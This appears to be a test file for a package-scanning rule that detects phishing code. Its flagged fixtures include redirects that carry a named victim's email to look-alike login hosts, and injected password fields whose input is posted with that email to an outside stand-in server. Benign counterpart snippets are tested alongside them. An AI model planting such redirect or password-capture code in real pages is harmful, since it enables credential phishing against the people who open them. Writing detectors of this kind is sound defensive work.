import assert from 'node:assert/strict';
import { test } from 'node:test';
import { said } from '#test/support/scan-package.js';
import { rule } from '../input-capture.rule.js';

const ADDRESS = 'https://login.sign-in.example/u';

test('bad: whoever opens it is led to another server, which is told who that is', () => {
  for (const code of [
    `location.replace("${ADDRESS}#j.doe@firm.example")`,
    `const mail = "j.doe@firm.example"; window.location.href = "${ADDRESS}?e=" + mail;`,
    `function go() { const who = "j.doe@firm.example"; const to = \`${ADDRESS}/#\${who}\`; top.location = to; } setTimeout(go, 800);`,
    `document.addEventListener("DOMContentLoaded", () => location.assign("${ADDRESS}#ai5kb2VAZmlybS5leGFtcGxl"));`,
  ]) {
    assert.deepEqual(said(rule, { 'a.js': code }), ['high a.js:1'], code);
    assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), ['high a.html:2'], code);
  }
});

test('good: nobody is named, somebody has to press something, or a mail is written', () => {
  for (const code of [
    `location.replace("${ADDRESS}#start")`,
    `location.href = "${ADDRESS}?e=" + encodeURIComponent(form.email.value)`,
    `button.addEventListener("click", () => { location.href = "${ADDRESS}?ref=help@firm.example" })`,
    `module.exports = () => { location.href = "${ADDRESS}?ref=help@firm.example" }`,
    `location.href = "mailto:help@firm.example"`,
    `location.href = "https://mail.google.com/mail/?view=cm&to=help@firm.example"`,
    `location.href = "http://localhost:3000/u?e=j.doe@firm.example"`,
    `location.href = "https://user@git.example/u"`,
    `fetch("${ADDRESS}?e=j.doe@firm.example")`,
  ]) assert.deepEqual(said(rule, { 'a.js': code }), [], code);
});

test('bad: another server is told what stands behind the address of the page', () => {
  for (const code of [
    `var e = location.hash.slice(1); var u = "${ADDRESS}?u=" + encodeURIComponent(e); setTimeout(function () { window.location.replace(u) }, 500);`,
    `const mail = (location.hash || "").replace("#", ""); location.href = "${ADDRESS}?hint=" + encodeURIComponent(atob(mail) || mail);`,
    `const to = new URL("${ADDRESS}"); to.searchParams.set("login_hint", new URLSearchParams(location.search).get("e")); top.location.assign(to.toString());`,
    'const host = "https://login.sign-in.example", part = window.location.href.split("#")[1]; location = `${host}/auth?user=${decodeURIComponent(part)}`;',
  ]) assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), ['high a.html:2'], code);
});

test('good: a page that has moved, a search, a short link, a sign-in that comes back, who sent somebody, names in a circle', () => {
  for (const code of [
    `location.replace("${ADDRESS}" + location.hash)`,
    `location.replace("${ADDRESS}?" + location.search.slice(1))`,
    `location.replace("${ADDRESS}/" + location.hash.slice(1))`,
    `location.replace("${ADDRESS}?q=" + encodeURIComponent(location.hash.slice(1)))`,
    `location.href = "${ADDRESS}?client=a&redirect_uri=" + encodeURIComponent(location.href) + "&state=" + encodeURIComponent(location.hash)`,
    `location.replace("${ADDRESS}?ref=" + (new URLSearchParams(location.search).get("ref") || ""))`,
    'location.replace("/login?user=" + location.hash.slice(1))',
    `opener.postMessage({ token: location.hash.slice(1) }, location.origin); location.replace("https://localhost:3000/u?user=" + location.hash.slice(1))`,
    `var a = "${ADDRESS}?u=" + b, b = "${ADDRESS}?u=" + a; location.href = a`,
  ]) assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), [], code);
});

test('bad: one person is asked for a password; good: whoever comes, with a field for who they are, a mail that is only shown, no server', () => {
  const send = (body: string): string => `field.form.onsubmit = () => fetch("${ADDRESS}", { method: "POST", mode: "no-cors", body: ${body} });`;
  const field = 'const field = document.createElement("input"); field.type = "password"; document.body.append(field);';
  const who = 'const who = "j.doe@firm.example";';
  for (const code of [
    `${who} ${field} ${send('JSON.stringify({ u: who, p: field.value })')}`,
    `${who} document.body.innerHTML = '<form><input name="p" type="password"></form>'; const field = document.forms[0].p; ${send('new URLSearchParams(`u=${who}&p=${field.value}`)')}`,
    `const field = make("input", { type: "password" }); const data = new FormData(); data.append("u", "j.doe@firm.example"); ${send('data')}`,
  ]) {
    assert.equal(said(rule, { 'a.js': code }).some((each) => each.startsWith('high a.js')), true, code);
    assert.equal(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }).some((each) => each.startsWith('high a.html')), true, code);
  }
  for (const code of [
    `${field} const mail = make("input", { type: "email", value: "demo@firm.example" }); ${send('JSON.stringify({ u: mail.value, p: field.value })')}`,
    `${who} ${field} show("Ask " + who); link({ href: who, textContent: who }); ${send('JSON.stringify({ code: code.value, p: field.value })')}`,
    `document.body.innerHTML = '<input name="u" value="demo@firm.example"><input name="p" type="password">'; const demo = { u: "demo@firm.example" }; ${send('data')}`,
    `${who} ${field} module.exports = { who }; exports.send = () => { ${send('JSON.stringify({ u: who, p: field.value })')} }`,
    `${who} ${field} fetch("/login", { method: "POST", body: JSON.stringify({ u: who, p: field.value }) })`,
  ]) assert.equal(said(rule, { 'a.js': code }).some((each) => each.startsWith('high')), false, code);
});

test('bad: somebody whose address a link may replace is led away; good: a place that anybody is led to', () => {
  const lead = (first: string): string => `var to = 'https://login.portal-sso.example/common'; var who = ${first}; if (location.hash.length > 1) who = decodeURIComponent(location.hash.slice(1)); location.replace(to + '#' + encodeURIComponent(who));`;
  assert.equal(said(rule, { 'a.js': lead("'j.doe@norvik-steel.example'") }).some((each) => each.startsWith('high')), true);
  assert.equal(said(rule, { 'a.js': lead("'chapter-1'") }).some((each) => each.startsWith('high')), false);
});

test('bad: what stands behind the address of the page is handed on by the name of a mail; good: a chapter', () => {
  const lead = (name: string): string => `(function () { var ${name} = location.hash.slice(1) || new URLSearchParams(location.search).get('e') || ''; var target = 'https://office-login.docshare.example/signin'; function go() { window.location.replace(target + '#' + ${name}); } window.addEventListener('load', go); })();`;
  assert.equal(said(rule, { 'a.js': lead('email') }).some((each) => each.startsWith('high')), true);
  assert.equal(said(rule, { 'a.js': lead('chapter') }).some((each) => each.startsWith('high')), false);
});
